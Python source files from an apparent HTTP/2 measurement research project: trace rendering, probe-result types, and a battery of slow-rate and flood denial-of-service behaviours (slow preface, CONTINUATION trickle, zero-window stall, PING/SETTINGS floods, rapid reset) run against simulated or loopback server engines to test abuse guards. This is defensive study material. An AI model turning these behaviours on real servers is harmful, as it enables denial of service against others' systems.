    manifest validation, same resume/quarantine semantics — but sites
    are probed concurrently by a bounded pool with per-host politeness,
    global rate limiting, and a DNS pre-stage (see the module
    docstring).  ``resolver`` maps ``(domain, port)`` to real addresses
    for hermetic fleets; ``None`` uses the system resolver.
    """
    return LiveCampaignRunner(
        targets,
        store,
        campaign,
        include=include,
        seed=seed,
        resilience=resilience,
        resume=resume,
        checkpoint_every=checkpoint_every,
        max_site_attempts=max_site_attempts,
        config=config,
        resolver=resolver,
        progress=progress,
        metrics=metrics,
    ).run()
