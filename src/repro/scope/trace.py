"""Frame-trace rendering, recording and persistence.

H2Scope keeps a timestamped log of every frame sent and received
(:attr:`~repro.scope.client.ScopeClient.frames`); this module renders
those logs the way protocol people read them::

    [  0.050] < SETTINGS  len=18  MAX_CONCURRENT_STREAMS=128 ...
    [  0.051] > HEADERS   stream=1 end_stream end_headers  len=33
    [  0.103] < DATA      stream=1  len=1  flow=1

Useful when a probe's verdict needs auditing: the trace shows exactly
which frames the server produced and when.

Three pieces live here:

* :func:`describe_frame` / :func:`render_trace` — pure rendering;
* :class:`TraceRecorder` — collects per-probe received-frame timelines
  while a scan runs (wired through
  :class:`~repro.scope.session.ProbeSession`);
* :func:`encode_trace` / :func:`decode_trace` — lossless round-trip of
  a timeline through a JSON-friendly document (frames stored as wire
  bytes, re-parsed on load), used by the report store's ``traces``
  table and the ``h2scope trace`` subcommand.
"""

from __future__ import annotations

from collections.abc import Iterable
from dataclasses import dataclass, field

from repro.h2.constants import ErrorCode, FrameFlag, SettingCode
from repro.h2.frames import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    PushPromiseFrame,
    RstStreamFrame,
    SettingsFrame,
    UnknownFrame,
    WindowUpdateFrame,
    parse_frames,
    serialize_frame,
)


def _error_name(code: int) -> str:
    try:
        return ErrorCode(code).name
    except ValueError:
        return f"0x{code:x}"


def _setting_name(identifier: int) -> str:
    try:
        return SettingCode(identifier).name
    except ValueError:
        return f"0x{identifier:04x}"


def _flag_names(frame: Frame) -> list[str]:
    names = []
    if isinstance(frame, (DataFrame, HeadersFrame)) and frame.has_flag(
        FrameFlag.END_STREAM
    ):
        names.append("end_stream")
    if isinstance(frame, (SettingsFrame, PingFrame)) and frame.has_flag(FrameFlag.ACK):
        names.append("ack")
    if isinstance(
        frame, (HeadersFrame, PushPromiseFrame, ContinuationFrame)
    ) and frame.has_flag(FrameFlag.END_HEADERS):
        names.append("end_headers")
    if frame.has_flag(FrameFlag.PADDED) and isinstance(
        frame, (DataFrame, HeadersFrame, PushPromiseFrame)
    ):
        names.append("padded")
    return names


def describe_frame(frame: Frame) -> str:
    """One-line human description of a frame."""
    flags = " ".join(_flag_names(frame))
    flags = f" {flags}" if flags else ""

    if isinstance(frame, DataFrame):
        return (
            f"DATA          stream={frame.stream_id}{flags} "
            f"len={len(frame.data)} flow={frame.flow_controlled_length}"
        )
    if isinstance(frame, HeadersFrame):
        prio = ""
        if frame.priority is not None:
            prio = (
                f" prio(dep={frame.priority.depends_on}"
                f" w={frame.priority.weight}"
                f"{' excl' if frame.priority.exclusive else ''})"
            )
        return (
            f"HEADERS       stream={frame.stream_id}{flags}{prio} "
            f"block={len(frame.header_block)}B"
        )
    if isinstance(frame, PriorityFrame):
        p = frame.priority
        return (
            f"PRIORITY      stream={frame.stream_id} dep={p.depends_on} "
            f"w={p.weight}{' excl' if p.exclusive else ''}"
        )
    if isinstance(frame, RstStreamFrame):
        return (
            f"RST_STREAM    stream={frame.stream_id} "
            f"error={_error_name(frame.error_code)}"
        )
    if isinstance(frame, SettingsFrame):
        if frame.is_ack:
            return "SETTINGS      ack"
        pairs = " ".join(
            f"{_setting_name(i)}={v}" for i, v in frame.settings
        )
        return f"SETTINGS      {pairs or '(empty)'}"
    if isinstance(frame, PushPromiseFrame):
        return (
            f"PUSH_PROMISE  stream={frame.stream_id}{flags} "
            f"promised={frame.promised_stream_id}"
        )
    if isinstance(frame, PingFrame):
        return f"PING          {frame.payload.hex()}{flags}"
    if isinstance(frame, GoAwayFrame):
        debug = f" debug={frame.debug_data!r}" if frame.debug_data else ""
        return (
            f"GOAWAY        last_stream={frame.last_stream_id} "
            f"error={_error_name(frame.error_code)}{debug}"
        )
    if isinstance(frame, WindowUpdateFrame):
        return (
            f"WINDOW_UPDATE stream={frame.stream_id} "
            f"increment={frame.window_increment}"
        )
    if isinstance(frame, ContinuationFrame):
        return (
            f"CONTINUATION  stream={frame.stream_id}{flags} "
            f"block={len(frame.header_block)}B"
        )
    if isinstance(frame, UnknownFrame):
        return (
            f"UNKNOWN(0x{frame.type_code:02x}) stream={frame.stream_id} "
            f"len={len(frame.payload)}"
        )
    return repr(frame)  # pragma: no cover - exhaustive above


def render_trace(timed_frames: Iterable, direction: str = "<") -> str:
    """Render a list of :class:`~repro.scope.client.TimedFrame` objects."""
    lines = []
    for timed in timed_frames:
        lines.append(f"[{timed.at:9.4f}] {direction} {describe_frame(timed.frame)}")
    return "\n".join(lines) + ("\n" if lines else "")


# ----------------------------------------------------------------------
# Recording and persistence
# ----------------------------------------------------------------------


@dataclass
class TracedFrame:
    """A (timestamp, frame) pair independent of the client's log type."""

    at: float
    frame: Frame


class TraceRecorder:
    """Collects received-frame timelines, one per named probe.

    A recorder travels with a :class:`~repro.scope.session.ProbeSession`;
    the scanner calls :meth:`begin` before each probe and every
    :class:`~repro.scope.client.ScopeClient` the session creates feeds
    :meth:`record` as frames arrive.  Frames observed outside a named
    probe (``begin`` not called) are dropped — recording is strictly
    opt-in per probe.

    :meth:`begin` while a probe is still open raises: silently
    accepting the second ``begin`` used to merge two probes' frames
    into one timeline, corrupting both.  :meth:`end` is idempotent, so
    ``try: begin(...) ... finally: end()`` nests safely with an
    explicit early ``end()``.
    """

    def __init__(self) -> None:
        self.traces: dict[str, list[TracedFrame]] = {}
        self.current: str | None = None

    def begin(self, probe: str) -> None:
        if self.current is not None:
            raise RuntimeError(
                f"trace for probe {self.current!r} is still open; "
                f"call end() before begin({probe!r})"
            )
        self.current = probe
        self.traces.setdefault(probe, [])

    def end(self) -> None:
        self.current = None

    def record(self, at: float, frame: Frame) -> None:
        if self.current is not None:
            self.traces[self.current].append(TracedFrame(at=at, frame=frame))


@dataclass
class ConnectionTimeline:
    """One connection's server-side view: lifetime plus inbound frames.

    Recorded by the engine when :class:`~repro.servers.engine.H2Server`
    is created with ``record_frames=True``; this is the input shape of
    the real-time detector (:mod:`repro.analysis.detection`) and of the
    labelled attack corpora.  ``label`` is ``None`` for benign traffic
    and an attack-profile name for battery-generated timelines.
    """

    opened_at: float
    closed_at: float | None = None
    #: Negotiated protocol as far as the connection got: ``"hello"``
    #: (TLS never completed), ``"http1"``, ``"h2"`` or ``"h2-mute"``.
    protocol: str = "hello"
    frames: list[TracedFrame] = field(default_factory=list)
    label: str | None = None

    @property
    def end_at(self) -> float:
        """Best-known end of observation (close, else last frame)."""
        if self.closed_at is not None:
            return self.closed_at
        if self.frames:
            return self.frames[-1].at
        return self.opened_at


def encode_trace(timed_frames: Iterable) -> list[dict]:
    """Encode a timeline as a JSON-friendly list of ``{at, frame}``.

    Frames are stored as hex wire bytes so the round trip is exact for
    every frame type, including :class:`UnknownFrame`.
    """
    return [
        {"at": timed.at, "frame": serialize_frame(timed.frame).hex()}
        for timed in timed_frames
    ]


def decode_trace(document: list[dict]) -> list[TracedFrame]:
    """Inverse of :func:`encode_trace`."""
    out: list[TracedFrame] = []
    for entry in document:
        frames, remainder = parse_frames(bytes.fromhex(entry["frame"]))
        if remainder or len(frames) != 1:
            raise ValueError("corrupt stored trace entry")
        out.append(TracedFrame(at=float(entry["at"]), frame=frames[0]))
    return out


def encode_timeline(timeline: ConnectionTimeline) -> dict:
    """Encode a full connection timeline (lifetime + frames + label)."""
    return {
        "opened_at": timeline.opened_at,
        "closed_at": timeline.closed_at,
        "protocol": timeline.protocol,
        "label": timeline.label,
        "frames": encode_trace(timeline.frames),
    }


def decode_timeline(document: dict) -> ConnectionTimeline:
    """Inverse of :func:`encode_timeline`."""
    closed = document.get("closed_at")
    return ConnectionTimeline(
        opened_at=float(document["opened_at"]),
        closed_at=None if closed is None else float(closed),
        protocol=document.get("protocol", "h2"),
        frames=decode_trace(document.get("frames", [])),
        label=document.get("label"),
    )
