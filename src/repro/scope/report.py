"""Typed probe results and the per-site report.

Verdict vocabularies match the paper's result categories so the
analysis layer can build Tables III–VII and the Section V-D/E counters
directly from these objects.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field


class ErrorClass(enum.Enum):
    """Failure taxonomy for scan errors (§IV-B scan bookkeeping).

    ``TRANSIENT`` failures (refused/reset connections) are worth
    retrying; ``TIMEOUT`` means the per-probe virtual-time budget ran
    out (stalled or blackholed peer); ``DNS`` means the target never
    resolved to an address (dead domain, NXDOMAIN, empty answer) — the
    live campaign quarantines these up front instead of spending
    connect/retry budget on them; ``FATAL`` covers everything a retry
    cannot fix (TLS corruption, protocol violations, bugs).
    """

    TRANSIENT = "transient"
    TIMEOUT = "timeout"
    DNS = "dns"
    FATAL = "fatal"


@dataclass
class ScanError:
    """One probe's final failure record, after any retries."""

    probe: str = ""
    error_class: ErrorClass = ErrorClass.FATAL
    exception: str = ""
    message: str = ""
    attempts: int = 1

    def __str__(self) -> str:
        return (
            f"{self.probe}: {self.exception}: {self.message} "
            f"[{self.error_class.value}, attempts={self.attempts}]"
        )


class ErrorReaction(enum.Enum):
    """How a server reacted to a provoked anomaly (Table III cells)."""

    RST_STREAM = "RST_STREAM"
    GOAWAY = "GOAWAY"
    IGNORE = "ignore"
    NO_RESPONSE = "no response"


class TinyWindowResult(enum.Enum):
    """§V-D1 categories for the Sframe=1 probe."""

    WINDOW_SIZED_DATA = "window-sized DATA"
    ZERO_LENGTH_DATA = "zero-length DATA"
    NO_RESPONSE = "no response"


@dataclass
class NegotiationResult:
    """§IV-A / §V-B: how (and whether) HTTP/2 was negotiated."""

    tcp_connected: bool = False
    alpn_h2: bool = False
    npn_h2: bool = False
    #: §IV-A's unencrypted path: HTTP/1.1 Upgrade: h2c accepted on
    #: port 80 (None = no cleartext listener reachable).
    h2c_upgrade: bool | None = None
    headers_received: bool = False
    server_header: str | None = None
    tcp_handshake_rtt: float | None = None


@dataclass
class SettingsResult:
    """§V-C: the server's announced SETTINGS.

    ``announced`` preserves exactly what was in the SETTINGS frame;
    parameters missing there are the paper's "unlimited"/default rows,
    and ``settings_frame_received=False`` is the paper's NULL row.
    """

    settings_frame_received: bool = False
    announced: dict[int, int] = field(default_factory=dict)

    def value_or_null(self, identifier: int) -> int | None:
        """The announced value, or None when no SETTINGS arrived."""
        if not self.settings_frame_received:
            return None
        return self.announced.get(identifier)


@dataclass
class MultiplexingResult:
    """§III-A1: did N parallel downloads interleave?"""

    streams: int = 0
    interleaved: bool = False
    #: Sequence of stream ids in DATA-frame arrival order.
    arrival_pattern: list[int] = field(default_factory=list)


@dataclass
class FlowControlResult:
    """§III-B / §V-D: the four flow-control probes."""

    #: Sframe probe: category plus the observed first-DATA size.
    tiny_window: TinyWindowResult | None = None
    first_data_size: int | None = None
    #: Zero-initial-window probe: HEADERS with no DATA is compliant.
    headers_with_zero_window: bool | None = None
    #: Zero WINDOW_UPDATE reactions.
    zero_update_stream: ErrorReaction | None = None
    zero_update_connection: ErrorReaction | None = None
    zero_update_debug_data: bytes = b""
    #: Overflowing WINDOW_UPDATE reactions.
    large_update_stream: ErrorReaction | None = None
    large_update_connection: ErrorReaction | None = None


@dataclass
class PriorityResult:
    """§III-C / §V-E: Algorithm 1 outcome and self-dependency."""

    #: Orderings observed (stream label order by first/last DATA frame).
    first_frame_order: list[str] = field(default_factory=list)
    last_frame_order: list[str] = field(default_factory=list)
    #: Rule checks, as in §V-E1.
    follows_rules_by_last: bool = False
    follows_rules_by_first: bool = False
    follows_rules_by_both: bool = False
    #: Table III row: did the server pass Algorithm 1 at all?
    passes_algorithm1: bool = False
    #: Whether HEADERS arrived while the connection window was zero
    #: (§III-C1 notes some servers withhold even HEADERS).
    headers_while_blocked: bool | None = None
    self_dependency: ErrorReaction | None = None


@dataclass
class PushResult:
    """§III-D / §V-F."""

    push_received: bool = False
    promised_paths: list[str] = field(default_factory=list)


@dataclass
class HpackResult:
    """§III-E / §V-G: Eq. 1 compression ratio over H responses."""

    requests: int = 0
    header_sizes: list[int] = field(default_factory=list)
    ratio: float | None = None


@dataclass
class PingResult:
    """§III-F / §V-H: RTT by the four estimators."""

    h2_ping_rtt: float | None = None
    tcp_rtt: float | None = None
    icmp_rtt: float | None = None
    http1_rtt: float | None = None
    ping_supported: bool = False


@dataclass
class SiteReport:
    """Everything H2Scope learned about one site."""

    domain: str = ""
    negotiation: NegotiationResult = field(default_factory=NegotiationResult)
    settings: SettingsResult = field(default_factory=SettingsResult)
    multiplexing: MultiplexingResult | None = None
    flow_control: FlowControlResult = field(default_factory=FlowControlResult)
    priority: PriorityResult = field(default_factory=PriorityResult)
    push: PushResult = field(default_factory=PushResult)
    hpack: HpackResult = field(default_factory=HpackResult)
    ping: PingResult = field(default_factory=PingResult)
    errors: list[ScanError] = field(default_factory=list)
    #: Attempts each probe needed (only recorded by resilient scans);
    #: a value above 1 means transient failures were retried away.
    probe_attempts: dict[str, int] = field(default_factory=dict)
    #: Virtual seconds this site's scan consumed in its simulation
    #: universe (deterministic; feeds the campaign progress ETA).
    scan_virtual_time: float = 0.0

    @property
    def speaks_h2(self) -> bool:
        return self.negotiation.alpn_h2 or self.negotiation.npn_h2

    @property
    def failed(self) -> bool:
        return bool(self.errors)

    @property
    def retried(self) -> bool:
        return any(count > 1 for count in self.probe_attempts.values())


@dataclass
class ErrorTaxonomy:
    """Scan-wide failure accounting (the paper's Table II-style
    'sites scanned vs sites answering' fractions, refined by class)."""

    total_sites: int = 0
    failed_sites: int = 0
    retried_sites: int = 0
    total_errors: int = 0
    by_class: dict[str, int] = field(default_factory=dict)
    by_exception: dict[str, int] = field(default_factory=dict)
    by_probe: dict[str, int] = field(default_factory=dict)

    @property
    def failure_fraction(self) -> float:
        if not self.total_sites:
            return 0.0
        return self.failed_sites / self.total_sites

    @property
    def retry_fraction(self) -> float:
        if not self.total_sites:
            return 0.0
        return self.retried_sites / self.total_sites


def summarize_errors(reports: list["SiteReport"]) -> ErrorTaxonomy:
    """Aggregate the error taxonomy across one scan's reports."""
    taxonomy = ErrorTaxonomy(total_sites=len(reports))
    for report in reports:
        if report.failed:
            taxonomy.failed_sites += 1
        if report.retried:
            taxonomy.retried_sites += 1
        for error in report.errors:
            taxonomy.total_errors += 1
            if isinstance(error, ScanError):
                class_key = error.error_class.value
                exception_key = error.exception or "unknown"
                probe_key = error.probe or "unknown"
            else:  # legacy bare-string records
                class_key, exception_key, probe_key = "fatal", "unknown", "unknown"
            taxonomy.by_class[class_key] = taxonomy.by_class.get(class_key, 0) + 1
            taxonomy.by_exception[exception_key] = (
                taxonomy.by_exception.get(exception_key, 0) + 1
            )
            taxonomy.by_probe[probe_key] = taxonomy.by_probe.get(probe_key, 0) + 1
    return taxonomy


def format_error_taxonomy(taxonomy: ErrorTaxonomy) -> str:
    """Render the taxonomy as the EXPERIMENTS-style text block."""
    lines = [
        "Scan resilience summary",
        f"  sites scanned           {taxonomy.total_sites}",
        f"  sites with errors       {taxonomy.failed_sites}"
        f"  ({taxonomy.failure_fraction:.1%})",
        f"  sites needing retries   {taxonomy.retried_sites}"
        f"  ({taxonomy.retry_fraction:.1%})",
        f"  error records           {taxonomy.total_errors}",
    ]
    for title, counts in (
        ("by class", taxonomy.by_class),
        ("by exception", taxonomy.by_exception),
        ("by probe", taxonomy.by_probe),
    ):
        if not counts:
            continue
        lines.append(f"  errors {title}:")
        for key, count in sorted(counts.items(), key=lambda kv: (-kv[1], kv[0])):
            lines.append(f"    {key:<22} {count}")
    return "\n".join(lines)
