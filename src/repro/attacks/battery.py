"""The slow-HTTP/2 DoS battery (ISSUE 7 tentpole, after Tripathi's
*Delays have Dangerous Ends*).

Six client-side behaviour profiles model the slow-rate attack family:

* ``slow_preface`` — complete the TLS hello, then drip the 24-byte h2
  connection preface one byte at a time, never finishing it;
* ``slow_headers`` — open a request HEADERS frame without END_HEADERS
  and trickle its block through 1-byte CONTINUATION frames;
* ``zero_window_stall`` — announce SETTINGS_INITIAL_WINDOW_SIZE 0,
  request large objects on many streams, never grant window;
* ``ping_flood`` — sustained non-ack PING volleys;
* ``settings_flood`` — sustained empty (non-ack) SETTINGS frames, each
  of which the server must ack;
* ``rst_churn`` — open-and-immediately-reset request streams
  (rapid-reset), forcing allocation and teardown work per stream.

Each profile runs against any vendor engine over the simulated backend
or the loopback bridge, with abuse guards off (reproducing the 2016
exposure) or with per-vendor hardened defaults
(:data:`repro.servers.vendors.DEFAULT_GUARDS`).  :func:`run_battery`
sweeps the profile × vendor grid into a :class:`SurvivalMatrix`; on
the simulated backend the matrix is deterministic in the seed.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.h2 import events as ev
from repro.h2.constants import CONNECTION_PREFACE
from repro.h2.frames import (
    ContinuationFrame,
    GoAwayFrame,
    HeadersFrame,
    parse_frames,
)
from repro.net.clock import Simulation
from repro.net.transport import LinkProfile, Network
from repro.scope.client import H2, ScopeClient
from repro.servers.profiles import AbuseGuards
from repro.servers.site import Site, deploy_site
from repro.servers.vendors import (
    POPULATION_FACTORIES,
    VENDOR_FACTORIES,
    vendor_guards,
)
from repro.servers.website import Resource, Website

from repro.attacks.base import AttackProfile, AttackResult

#: Default attack window, seconds.  Long enough that every per-vendor
#: guard deadline (max 12 s) falls inside it with room to observe the
#: eviction, and that a guards-off run demonstrably *holds*.
DEFAULT_DURATION = 16.0


def _attack_website(objects: int = 32, object_size: int = 120_000) -> Website:
    site = Website()
    for i in range(objects):
        site.add(
            Resource(f"/victim/{i}.bin", object_size, "application/octet-stream")
        )
    site.add(Resource("/", 1_000, "text/html"))
    return site


# ----------------------------------------------------------------------
# The per-run driver handed to behaviours
# ----------------------------------------------------------------------


class AttackRun:
    """Clock, eviction watching and metric sampling for one attack."""

    def __init__(
        self,
        client: ScopeClient,
        result: AttackResult,
        duration: float,
        step: float,
        sampler=None,
        knobs: dict | None = None,
    ):
        self.client = client
        self.result = result
        self.duration = duration
        self.step = step
        self.sampler = sampler
        self.knobs = dict(knobs or {})
        self.started_at: float | None = None
        self.eviction_noticed_at: float | None = None
        self.samples: list[tuple[float, int]] = []
        self.peaks = {"pinned": 0, "streams": 0, "hpack": 0, "assembly": 0}
        self.bytes_sent = 0

    def knob(self, name: str, default):
        return self.knobs.get(name, default)

    def begin(self) -> None:
        """Mark the connection established; the attack clock starts."""
        self.started_at = self.client.now
        self.result.connected = True
        self.sample()

    @property
    def elapsed(self) -> float:
        if self.started_at is None:
            return 0.0
        return self.client.now - self.started_at

    @property
    def over(self) -> bool:
        return self.elapsed >= self.duration - 1e-9

    @property
    def evicted(self) -> bool:
        """Has the server terminated us (GOAWAY seen or socket closed)?"""
        client = self.client
        if client.peer_closed:
            return True
        if any(isinstance(te.event, ev.GoAwayReceived) for te in client.events):
            return True
        if client.conn is None and self._limbo_goaway() is not None:
            return True
        return False

    def _limbo_goaway(self) -> GoAwayFrame | None:
        """GOAWAY parsed out of pre-engine bytes (slow-preface has no
        protocol engine attached, but the server's frames still arrive)."""
        data = bytes(getattr(self.client, "_limbo_buffer", b""))
        if not data:
            return None
        try:
            frames, _remainder = parse_frames(data)
        except Exception:
            return None
        for frame in frames:
            if isinstance(frame, GoAwayFrame):
                return frame
        return None

    def tick(self, dt: float) -> None:
        """Let ``dt`` seconds pass (early-exits once evicted), then
        sample the server's resource state."""
        self.client.wait_for(lambda: self.evicted, timeout=dt)
        if self.evicted and self.eviction_noticed_at is None:
            self.eviction_noticed_at = self.client.now
        self.sample()

    def sample(self) -> None:
        if self.sampler is None:
            return
        try:
            metrics = self.sampler()
        except RuntimeError:
            # Loopback sampling races the engine thread; skip the beat.
            return
        for key in self.peaks:
            self.peaks[key] = max(self.peaks[key], metrics.get(key, 0))
        self.samples.append((round(self.elapsed, 4), metrics.get("pinned", 0)))

    def finish(self) -> None:
        """Fold the run's observations into the result."""
        result = self.result
        client = self.client
        result.samples = self.samples
        result.peak_pinned_bytes = self.peaks["pinned"]
        result.peak_stream_states = self.peaks["streams"]
        result.peak_hpack_bytes = self.peaks["hpack"]
        result.peak_assembly_bytes = self.peaks["assembly"]
        if client.conn is not None:
            result.frames_sent = len(client.conn.sent_frame_log)
        else:
            result.frames_sent = self.bytes_sent
        if self.started_at is None:
            return

        goaway_at: float | None = None
        goaway: GoAwayFrame | ev.GoAwayReceived | None = None
        for te in client.events:
            if isinstance(te.event, ev.GoAwayReceived):
                goaway, goaway_at = te.event, te.at
                break
        if goaway is None:
            goaway = self._limbo_goaway()
        if goaway is not None:
            result.goaway_observed = True
            result.goaway_error = goaway.error_code
            result.goaway_debug = goaway.debug_data
        if goaway is not None or client.peer_closed:
            result.evicted = True
            noticed = self.eviction_noticed_at
            at = goaway_at if goaway_at is not None else noticed
            if at is None:
                at = client.now
            result.eviction_at = max(0.0, at - self.started_at)
            result.held_seconds = result.eviction_at
        else:
            # Clamp: the post-run drain advances the clock a little.
            result.held_seconds = min(self.elapsed, self.duration)
        result.survived = not result.evicted


# ----------------------------------------------------------------------
# Behaviours
# ----------------------------------------------------------------------


def _behave_slow_preface(run: AttackRun) -> None:
    client = run.client
    if not client.connect():
        return
    client.tls_handshake()
    if client.tls.chosen != H2:
        return
    run.begin()
    preface = CONNECTION_PREFACE
    # One byte at a time, paced so the preface can never complete
    # inside the attack window (and the final byte is never sent).
    interval = run.knob("interval", run.duration / (2 * len(preface)) * 4)
    sent = 0
    while not run.over and not run.evicted:
        if sent < len(preface) - 1:
            client.endpoint.send(preface[sent : sent + 1])
            run.bytes_sent += 1
            sent += 1
        run.tick(interval)


def _behave_slow_headers(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    conn = client.conn
    assert conn is not None
    stream_id = conn.next_stream_id()
    headers = [
        (":method", "GET"),
        (":scheme", "https"),
        (":path", "/"),
        (":authority", client.domain),
    ]
    headers += [(f"x-drip-{i:02d}", "d" * 48) for i in range(24)]
    block = conn.encoder.encode(headers)
    # HEADERS without END_HEADERS opens the assembly; the block then
    # trickles through 1-byte CONTINUATIONs and never terminates.
    conn.send_raw_frame(HeadersFrame(stream_id=stream_id, header_block=block[:1]))
    client.flush()
    position = 1
    interval = run.knob("interval", 0.25)
    while not run.over and not run.evicted:
        if position < len(block) - 1:
            conn.send_raw_frame(
                ContinuationFrame(
                    stream_id=stream_id,
                    header_block=block[position : position + 1],
                )
            )
            client.flush()
            position += 1
        run.tick(interval)


def _behave_zero_window_stall(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    for i in range(int(run.knob("streams", 16))):
        client.request(f"/victim/{i}.bin")
    while not run.over and not run.evicted:
        run.tick(run.step)


def _behave_ping_flood(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    rate = float(run.knob("rate", 400.0))
    burst = int(run.knob("burst", 20))
    sequence = 0
    while not run.over and not run.evicted:
        assert client.conn is not None
        for _ in range(burst):
            client.conn.send_ping(sequence.to_bytes(8, "big"))
            sequence += 1
        client.flush()
        run.tick(burst / rate)


def _behave_settings_flood(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    rate = float(run.knob("rate", 100.0))
    burst = int(run.knob("burst", 5))
    while not run.over and not run.evicted:
        assert client.conn is not None
        for _ in range(burst):
            client.conn.send_settings({})
        client.flush()
        run.tick(burst / rate)


def _behave_rst_churn(run: AttackRun) -> None:
    client = run.client
    if not client.establish_h2():
        return
    run.begin()
    rate = float(run.knob("rate", 300.0))
    burst = int(run.knob("burst", 15))
    while not run.over and not run.evicted:
        conn = client.conn
        assert conn is not None
        for _ in range(burst):
            stream_id = conn.next_stream_id()
            conn.send_headers(
                stream_id,
                [
                    (":method", "GET"),
                    (":scheme", "https"),
                    (":path", "/victim/0.bin"),
                    (":authority", client.domain),
                ],
                end_stream=True,
            )
            conn.send_rst_stream(stream_id, 8)  # CANCEL
        client.flush()
        run.tick(burst / rate)


#: The slow-rate battery, in matrix row order.
BATTERY_PROFILES: dict[str, AttackProfile] = {
    "slow_preface": AttackProfile(
        name="slow_preface",
        summary="drip the 24-byte connection preface, never completing it",
        kind="slow-rate",
        behaviour=_behave_slow_preface,
        guard_knob="preface",
    ),
    "slow_headers": AttackProfile(
        name="slow_headers",
        summary="HEADERS without END_HEADERS + 1-byte CONTINUATION trickle",
        kind="slow-rate",
        behaviour=_behave_slow_headers,
        guard_knob="header",
    ),
    "zero_window_stall": AttackProfile(
        name="zero_window_stall",
        summary="announce a zero initial window, request big objects, go mute",
        kind="slow-rate",
        behaviour=_behave_zero_window_stall,
        client_settings={4: 0},  # SETTINGS_INITIAL_WINDOW_SIZE
        guard_knob="stall",
    ),
    "ping_flood": AttackProfile(
        name="ping_flood",
        summary="sustained non-ack PING volleys",
        kind="flood",
        behaviour=_behave_ping_flood,
        guard_knob="ping",
    ),
    "settings_flood": AttackProfile(
        name="settings_flood",
        summary="sustained empty SETTINGS frames, each forcing an ack",
        kind="flood",
        behaviour=_behave_settings_flood,
        guard_knob="settings",
    ),
    "rst_churn": AttackProfile(
        name="rst_churn",
        summary="open-and-reset request streams (rapid reset)",
        kind="flood",
        behaviour=_behave_rst_churn,
        guard_knob="rst",
    ),
}


def _expected_deadline(
    profile: AttackProfile, guards: AbuseGuards
) -> float | None:
    """The guard deadline this attack should be evicted within."""
    if not guards.any_enabled:
        return None
    knob = profile.guard_knob
    if knob == "preface":
        return guards.preface_timeout
    if knob == "header":
        return guards.header_timeout
    if knob == "stall":
        return guards.stall_timeout
    if knob in ("ping", "settings", "rst"):
        # Rate breaches trip within one window of sustained flooding.
        return guards.rate_window
    return None


def _sample_engine(server):
    return {
        "pinned": server.pending_response_bytes,
        "streams": server.tracked_stream_states,
        "hpack": server.hpack_table_bytes,
        "assembly": server.header_assembly_bytes,
    }


def _resolve_guards(guards, vendor: str) -> AbuseGuards:
    if guards is None or guards == "off":
        return AbuseGuards()
    if guards == "vendor":
        return vendor_guards(vendor)
    return guards


def run_attack(
    profile: AttackProfile | str,
    vendor: str = "nginx",
    *,
    backend: str = "sim",
    guards: AbuseGuards | str | None = None,
    seed: int = 0,
    duration: float = DEFAULT_DURATION,
    step: float = 0.25,
    record_frames: bool = False,
    knobs: dict | None = None,
) -> AttackResult:
    """Run one battery profile against one vendor engine.

    ``backend`` is ``"sim"`` (discrete-event, deterministic in the
    seed) or ``"loopback"`` (real TCP via the PR 6 bridge, wall-clock).
    ``guards`` is an :class:`AbuseGuards`, ``"vendor"`` (that vendor's
    hardened defaults) or ``None``/``"off"``.
    """
    if isinstance(profile, str):
        profile = BATTERY_PROFILES[profile]
    assert profile.behaviour is not None, f"{profile.name} is not a battery attack"
    resolved = _resolve_guards(guards, vendor)
    factory = VENDOR_FACTORIES.get(vendor) or POPULATION_FACTORIES[vendor]
    vendor_profile = factory().clone(guards=resolved)
    result = AttackResult(
        profile=profile.name,
        vendor=vendor,
        backend=backend,
        guards_enabled=resolved.any_enabled,
        duration=duration,
        eviction_deadline=_expected_deadline(profile, resolved),
    )
    domain = f"{vendor}.victim.test"
    site = Site(
        domain=domain,
        profile=vendor_profile,
        website=_attack_website(),
        link=LinkProfile(rtt=0.02, bandwidth=50e6),
    )
    if backend == "sim":
        _run_sim(profile, site, result, seed, duration, step, record_frames, knobs)
    elif backend == "loopback":
        _run_loopback(profile, site, result, seed, duration, step, knobs)
    else:
        raise ValueError(f"unknown backend {backend!r}")
    return result


def _run_sim(profile, site, result, seed, duration, step, record_frames, knobs):
    sim = Simulation()
    network = Network(sim, seed=seed)
    server = deploy_site(network, site, record_frames=record_frames)
    client = ScopeClient(
        network,
        site.domain,
        settings=dict(profile.client_settings),
        auto_window_update=profile.auto_window_update,
    )
    run = AttackRun(
        client,
        result,
        duration=duration,
        step=step,
        sampler=lambda: _sample_engine(server),
        knobs=knobs,
    )
    profile.behaviour(run)
    # Drain in-flight bytes (a terminal GOAWAY trails the eviction by
    # the guard linger + link delay) before folding the result.
    client.wait_for(lambda: False, timeout=0.3)
    run.finish()
    client.close()
    sim.run(until=sim.now + 0.5)
    result.guard_reasons = [event.reason for event in server.guard_log]
    if record_frames:
        for timeline in server.timelines:
            timeline.label = profile.name
        result.timelines = list(server.timelines)


def _run_loopback(profile, site, result, seed, duration, step, knobs):
    # Imported lazily: the loopback bridge pulls in asyncio/threading
    # machinery the simulated path never needs.
    from repro.net.socket_backend import SocketBackend
    from repro.servers.loopback import LoopbackBridge

    bridge = LoopbackBridge(seed=seed)
    try:
        bridge.serve(site)
        engine = bridge.engine(site.domain)
        backend = SocketBackend(resolver=bridge.resolver())
        try:
            client = ScopeClient(
                backend,
                site.domain,
                settings=dict(profile.client_settings),
                auto_window_update=profile.auto_window_update,
            )
            run = AttackRun(
                client,
                result,
                duration=duration,
                step=step,
                sampler=lambda: _sample_engine(engine),
                knobs=knobs,
            )
            profile.behaviour(run)
            client.wait_for(lambda: False, timeout=0.3)
            run.finish()
            client.close()
        finally:
            backend.close()
        result.guard_reasons = [event.reason for event in engine.guard_log]
    finally:
        bridge.close()


# ----------------------------------------------------------------------
# The survival matrix
# ----------------------------------------------------------------------


@dataclass
class SurvivalMatrix:
    """Battery results over the profile × vendor grid."""

    backend: str
    guards: str
    seed: int
    duration: float
    results: list[AttackResult] = field(default_factory=list)

    def cell(self, profile: str, vendor: str) -> AttackResult | None:
        for result in self.results:
